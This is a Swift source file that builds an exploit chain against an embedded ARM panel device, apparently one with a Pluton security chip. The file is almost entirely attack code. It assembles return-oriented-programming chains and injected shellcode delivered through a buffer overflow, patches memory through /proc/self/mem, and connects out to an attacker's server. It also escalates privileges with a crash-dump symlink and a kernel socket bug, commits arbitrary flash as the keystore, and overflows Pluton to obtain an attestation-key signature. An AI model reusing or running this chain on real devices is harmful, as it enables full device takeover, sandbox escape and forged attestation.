import Formats

/// What is sent through the hole in the panel: system calls, layer by layer, each with a call of its own, none knowing of the others.
public struct PanelPayload {
    /// Numbers of Linux on ARM (arch/arm/tools/syscall.tbl).
    private enum Call {
        static let close: UInt32 = 6, write: UInt32 = 4, getpid: UInt32 = 20, ioctl: UInt32 = 54, symlink: UInt32 = 83
        static let syslog: UInt32 = 103, pwrite: UInt32 = 181, getuid: UInt32 = 199, setuid: UInt32 = 213, socket: UInt32 = 281
        static let connect: UInt32 = 283, setsockopt: UInt32 = 294, openat: UInt32 = 322
    }
    private enum Request {
        /// GPIO_GET_LINEHANDLE_IOCTL, and those of the original's drivers.
        static let line: UInt32 = 0xC16C_B403, pluton: UInt32 = 0xC014_7001, monitorCommit: UInt32 = 0xC00C_7302
    }

    /// Descriptors of the panel: after standard streams, relay and listener comes the connection that the exploit came through.
    static let peer: UInt32 = 5
    private static let listener: UInt32 = 3
    private static let next: UInt32 = 6
    private static let here = UInt32(bitPattern: -100)
    private static let readWrite: UInt32 = 2
    /// Before results.
    public static let mark = Array("PWND".utf8)
    /// What Pluton is to sign; its meaning does not matter.
    public static let digest = [UInt8](repeating: 0xA5, count: 32)
    private static let signatureBytes: UInt32 = 64
    private static let updater: UInt32 = 100

    private var chain: ReturnChain
    public private(set) var layers: [Layer] = []
    private(set) var parts = ReturnChain.Parts(kept: [], overflowing: [], registers: [])
    /// How much comes back behind the mark.
    public private(set) var answerBytes = 0

    /// What goes through the connection: a frame that is only kept, one that overflows, and the registers to go on with.
    public var message: [UInt8] {
        PanelPayload.frame("?", parts.kept) + PanelPayload.frame("N", parts.overflowing) + parts.registers
    }

    /// One that overflows with machine code.
    public static func message(injecting code: [UInt8]) -> [UInt8] { frame("N", code) }

    private static func frame(_ letter: Unicode.Scalar, _ content: [UInt8]) -> [UInt8] {
        [UInt8(ascii: letter)] + UInt16(content.count).littleEndianBytes + content
    }

    private init(_ gadgets: ReturnChain.Gadgets) { chain = ReturnChain(gadgets) }

    private mutating func open(_ path: String) -> Int {
        chain.call(Call.openat, [PanelPayload.here, chain.place(path), PanelPayload.readWrite, 0])
    }
    private mutating func close(_ descriptor: UInt32 = next) { chain.call(Call.close, [descriptor]) }

    private mutating func add(_ name: String, _ slot: Int, _ proof: Layer.Proof) {
        layers.append(Layer(name: name, slot: slot, proof: proof))
    }

    /// Sends everything back, and lets the panel go on.
    private mutating func finish(and more: (address: UInt32, count: UInt32)? = nil) {
        let count = chain.slots
        chain.call(Call.write, [PanelPayload.peer, chain.place(PanelPayload.mark), 4])
        chain.call(Call.write, [PanelPayload.peer, chain.slotsAddress, UInt32(count * 4)])
        if let more { chain.call(Call.write, [PanelPayload.peer, more.address, more.count]) }
        answerBytes = count * 4 + Int(more?.count ?? 0)
        parts = chain.finish(peer: PanelPayload.peer, listener: PanelPayload.listener)
    }

    // MARK: From the network into the app

    /// - Parameter server: A machine of the attacker's that no manifest lists.
    public static func inApp(_ gadgets: ReturnChain.Gadgets, server: (address: UInt32, port: UInt16)) -> PanelPayload {
        var payload = PanelPayload(gadgets)
        payload.add("reused code", payload.chain.call(Call.getpid, []), .more)
        payload.rewriteCode()
        let log = payload.chain.place([UInt8](repeating: 0, count: 128))
        payload.add("the kernel's log", payload.chain.call(Call.syslog, [3, log, 128]), .more)
        payload.add("another app's memory", payload.open("/proc/2/mem"), .success)
        payload.close()
        payload.takePin(0)
        payload.reach(server)
        payload.add("another user", payload.chain.call(Call.setuid, [0]), .success)
        payload.commitImage()
        payload.finish()
        return payload
    }

    private mutating func rewriteCode() {
        // mov r0, #42; str r0, [r6]; pop {r4-r7, pc}
        let implant = chain.place([0xE3A0_002A, 0xE586_0000, 0xE8BD_80F0].littleEndianBytes)
        for path in ["/proc/self/mem", "/proc/thread-self/mem"] {
            _ = open(path)
            chain.call(Call.pwrite, [PanelPayload.next, implant, 12, 0, chain.coldAddress, 0])
            close()
        }
        add("unsigned code", chain.runCold(), .value(42))
    }

    /// A pin that belongs to another app.
    private mutating func takePin(_ number: UInt32) {
        var request = number.littleEndianBytes + [UInt8](repeating: 0, count: 252)
        request += UInt32(2).littleEndianBytes + [UInt8](repeating: 0, count: 96) + UInt32(1).littleEndianBytes + [0, 0, 0, 0]
        let place = chain.place(request)
        _ = open("/dev/gpiochip0")
        add("another app's pin", chain.call(Call.ioctl, [PanelPayload.next, Request.line, place]), .success)
        close(PanelPayload.next + 1)
        close()
    }

    private mutating func reach(_ server: (address: UInt32, port: UInt16)) {
        let place = chain.place(
            [2, 0, UInt8(server.port >> 8), UInt8(server.port & 0xFF)] + server.address.littleEndianBytes.reversed()
                + [UInt8](repeating: 0, count: 8))
        chain.call(Call.socket, [2, 1, 0])
        add("a host beyond the manifest", chain.call(Call.connect, [PanelPayload.next, place, 16]), .success)
        close()
    }

    /// Has whatever lies somewhere in flash counted as the keystore.
    private mutating func commitImage() {
        _ = open("/dev/security-monitor")
        let place = chain.place([UInt32(19), 0xF0_0000, 4096].littleEndianBytes)
        add("flash", chain.call(Call.ioctl, [PanelPayload.next, Request.monitorCommit, place]), .success)
        close()
    }

    /// Machine code to be run where frames are kept: it says so, and ends the app.
    public static func injected(_ gadgets: ReturnChain.Gadgets) -> [UInt8] {
        // mov r0, #peer; add r1, pc, #16; mov r2, #8; mov r7, #write; svc #0; mov r7, #exit; svc #0, then what it writes
        let code: [UInt32] = [
            0xE3A0_0000 | peer, 0xE28F_1010, 0xE3A0_2008, 0xE3A0_7004, 0xEF00_0000, 0xE3A0_7001, 0xEF00_0000,
        ]
        let place = ReturnChain.returnOffset + 4
        return [UInt8](repeating: 0x41, count: ReturnChain.returnOffset) + (gadgets.buffer + UInt32(place)).littleEndianBytes
            + code.littleEndianBytes + mark + UInt32(1).littleEndianBytes
    }

    // MARK: On from there

    /// Lays a link where crash dumps go and crashes, with a line on the stack that makes this app the updater.
    public static func crashIntoUserMap(_ gadgets: ReturnChain.Gadgets, component: String) -> PanelPayload {
        var payload = PanelPayload(gadgets)
        let (target, link) = (payload.chain.place("/run/uid_map"), payload.chain.place("/tmp/core"))
        payload.chain.call(Call.symlink, [target, link])
        payload.parts = payload.chain.crash(leaving: Array("\n\(component) \(updater)\n\n".utf8))
        return payload
    }

    /// Who it is after that.
    public static func asDaemon(_ gadgets: ReturnChain.Gadgets) -> PanelPayload {
        var payload = PanelPayload(gadgets)
        payload.add("a system service's user", payload.chain.call(Call.getuid, []), .value(updater))
        payload.finish()
        return payload
    }

    /// Writes to a socket's peer that is gone, where the kernel now keeps who a process is.
    public static func intoKernel(_ gadgets: ReturnChain.Gadgets) -> PanelPayload {
        var payload = PanelPayload(gadgets)
        let (nowhere, words) = (
            payload.chain.place([UInt8](repeating: 0, count: 18)), payload.chain.place([UInt32(0), 0x3FF].littleEndianBytes)
        )
        payload.chain.call(Call.socket, [43, 2, 0])
        payload.chain.call(Call.connect, [next, nowhere, 18])
        payload.chain.call(Call.setsockopt, [next, 43, 1, words, 8])
        payload.close()
        payload.add("the kernel's data", payload.chain.call(Call.getuid, []), .value(0))
        payload.finish()
        return payload
    }

    public static func throughMonitor(_ gadgets: ReturnChain.Gadgets) -> PanelPayload {
        var payload = PanelPayload(gadgets)
        payload.commitImage()
        payload.finish()
        return payload
    }

    /// A request that is too long for Pluton's buffer, and names the key that signs evidence. The signature comes back.
    public static func intoPluton(_ gadgets: ReturnChain.Gadgets) -> PanelPayload {
        var payload = PanelPayload(gadgets)
        let request = payload.chain.place([UInt8](repeating: 0, count: 64) + digest + UInt32(1).littleEndianBytes)
        let signature = payload.chain.place([UInt8](repeating: 0, count: Int(signatureBytes)))
        let words = payload.chain.place([UInt32(0x4D), request, 100, signature, signatureBytes].littleEndianBytes)
        _ = payload.open("/dev/pluton")
        payload.add("Pluton's attestation key", payload.chain.call(Call.ioctl, [next, Request.pluton, words]), .value(signatureBytes))
        payload.close()
        payload.finish(and: (signature, signatureBytes))
        return payload
    }
}
